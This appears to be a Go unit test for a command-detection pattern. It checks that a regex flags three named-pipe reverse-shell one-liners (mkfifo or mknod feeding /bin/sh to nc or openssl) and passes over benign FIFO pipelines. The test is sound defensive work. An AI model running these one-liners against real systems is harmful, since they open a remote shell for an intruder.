package detect

import "testing"

// The named-pipe relay pattern: the classic one-liners in its three
// shapes, and pipelines through a FIFO that are not a shell on the network.
func TestNamedPipeShellRelayPattern(t *testing.T) {
	var p cmdPattern
	for _, c := range cmdPatterns {
		if c.what == "shell relayed to the network through a named pipe" {
			p = c
		}
	}
	for _, l := range []string{
		"sh -c mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 14445 > /tmp/f",
		"rm /tmp/p; mknod /tmp/p p && nc 10.0.0.1 80 0</tmp/p | /bin/bash 1>/tmp/p",
		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
	} {
		if !p.re.MatchString(l) {
			t.Errorf("no match: %q", l)
		}
	}
	for _, l := range []string{
		"mkfifo /tmp/f; cat /tmp/f | gzip > /tmp/out.gz",
		"mkfifo /tmp/q && sh -c 'echo hi > /tmp/q' & cat /tmp/q",
		"nc -z db 5432 | sh",
		"mkfifo /run/app/ctl; tail -f /run/app/ctl | /usr/bin/app --shell-compatible",
	} {
		if p.re.MatchString(l) {
			t.Errorf("matches the benign %q", l)
		}
	}
}
